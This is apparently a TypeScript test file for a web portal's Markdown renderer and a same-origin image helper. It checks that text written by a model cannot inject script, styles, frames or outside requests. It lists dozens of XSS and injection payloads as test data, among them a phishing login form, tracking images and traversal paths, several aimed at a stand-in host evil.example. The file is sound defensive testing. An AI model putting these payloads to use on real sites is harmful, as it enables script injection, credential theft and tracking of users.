import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { createServer, type ViteDevServer } from 'vite';
import { ownResult } from '../../portal/src/features/playground/addresses.ts';

/** What a model writes may be anything. Nothing of it may run, look like the page, or fetch. */

let vite: ViteDevServer;
let html: (text: string, running?: boolean) => string;

before(async () => {
  vite = await createServer({
    configFile: fileURLToPath(new URL('../../portal/vite.config.ts', import.meta.url)),
    server: { middlewareMode: true, ws: false, watch: null },
    appType: 'custom',
    logLevel: 'error',
    optimizeDeps: { noDiscovery: true },
  });
  const { Markdown } = await vite.ssrLoadModule('/src/features/playground/markdown.tsx');
  html = (text, running = false) => renderToStaticMarkup(createElement(Markdown, { text, running }));
});
after(() => vite.close());

const safeTags = new Set(
  'a blockquote br button code del div em figcaption figure h3 h4 hr img input li ol p path pre rect span strong sub sup svg table tbody td th thead tr ul circle line polyline'.split(
    ' ',
  ),
);
const safeAttributes =
  /^(class|href|target|rel|alt|src|type|disabled|checked|readonly|role|tabindex|title|start|aria-[a-z]+|style|dir|width|height|viewbox|fill|stroke|stroke-(width|linecap|linejoin)|xmlns|d|x|y|rx|ry|cx|cy|r|x1|x2|y1|y2|points)$/;

/** Elements and attributes as a browser would find them: whatever stands between < and >. */
function check(text: string, running: boolean): string {
  const out = html(text, running);
  for (const [, close, name, attributes = ''] of out.matchAll(
    /<(\/?)([a-zA-Z][\w-]*)((?:"[^"]*"|[^>"])*)>/g,
  )) {
    assert.ok(safeTags.has(name!.toLowerCase()), `<${close}${name}> came of ${text}`);
    for (const [, attribute, value = ''] of attributes.matchAll(/([\w:-]+)(?:="([^"]*)")?/g)) {
      assert.match(attribute!.toLowerCase(), safeAttributes, `${attribute} came of ${text}`);
      if (attribute === 'href') assert.match(value, /^(https?:|mailto:)/);
      if (attribute === 'src') assert.match(value, /^data:image\/(png|jpeg|gif|webp);base64,[\w+/=]+$/);
      if (attribute === 'style') assert.fail(`a style came of ${text}`);
    }
  }
  return out;
}

const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<style>body{display:none}</style>',
  '<div style="position:fixed;inset:0;background:red">all yours</div>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><input name=key><button>Log in</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<p id="content" name="getElementById" class="fixed inset-0">clobbered</p>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](/console/keys?delete=1)',
  '[x](//evil.example)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/track.png?who=me)',
  '![x](//evil.example/track.png)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](data:text/html,<script>alert(1)</script>)',
  '![x"onerror="alert(1)](https://evil.example/a.png)',
  '![x](/results/../api/user/self "t\\" onload=alert(1)")',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"] --> B; click A "javascript:alert(1)"\n```',
  '```html\n<script>alert(1)</script>\n```',
  '```"onmouseover="alert(1)\nx\n```',
  '$$\\href{javascript:alert(1)}{x}$$ and \\(\\htmlData{x=1}{y}\\)',
  '$\\includegraphics{https://evil.example/a.png}$',
  '| a |\n|-|\n| <img src=x onerror=alert(1)> |',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
  '<!-- --><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '`<script>alert(1)</script>`',
  'autolink www.evil.example and javascript:alert(1)',
  '# <b onclick=alert(1)>x</b>',
  `${'['.repeat(2000)}x${']'.repeat(2000)}`,
  `${'> '.repeat(500)}deep`,
];

for (const text of hostile)
  test(`harmless: ${text.slice(0, 60).replaceAll('\n', ' ')}`, () => {
    check(text, false);
    // As it comes: every beginning of it is a text too.
    for (let end = 1; end < Math.min(text.length, 120); end += 7) check(text.slice(0, end), true);
  });

test('HTML is shown as the text that it is', () => {
  assert.match(html('a <b>bold</b> word'), /&lt;b&gt;bold/);
});

test('what is meant well still looks well', () => {
  const out = html(
    '# Title\n\n**bold** [link](https://a.example/x) `code`\n\n1. one\n2. two\n\n| a | b |\n|-|-|\n| 1 | 2 |\n\n```python\nprint(1)\n```\n\n![dot](data:image/png;base64,iVBORw0KGgo=)',
  );
  for (const part of [
    '<h3>Title</h3>',
    '<strong>bold</strong>',
    'href="https://a.example/x"',
    'rel="noopener noreferrer nofollow"',
    '<code>code</code>',
    '<ol>',
    '<td>1</td>',
    'print(1)',
    'src="data:image/png;base64,iVBORw0KGgo="',
  ])
    assert.ok(out.includes(part), `${part} in ${out}`);
  assert.ok(!out.includes('<h1'), 'the page has its own');
});

test('a picture from elsewhere is a link that nobody follows unasked', () => {
  const out = html('![a cat](https://pictures.example/cat.png)');
  assert.ok(!out.includes('<img'));
  assert.match(out, /href="https:\/\/pictures\.example\/cat\.png"/);
});

test('only results of this gateway are shown as pictures by their address', () => {
  const origin = 'https://gateway.example';
  assert.equal(ownResult(`${origin}/results/a/0/b/x.png`, origin), '/results/a/0/b/x.png');
  assert.equal(ownResult('/results/a/0/b/x.png', origin), '/results/a/0/b/x.png');
  for (const other of [
    '/results/../api/user/self',
    '/results/%2e%2e/api/user/self',
    'https://evil.example/results/x.png',
    '//evil.example/results/x.png',
    `${origin}.evil.example/results/x.png`,
    'javascript:/results/x',
    '/console',
    undefined,
  ])
    assert.equal(ownResult(other, origin), undefined, String(other));
});
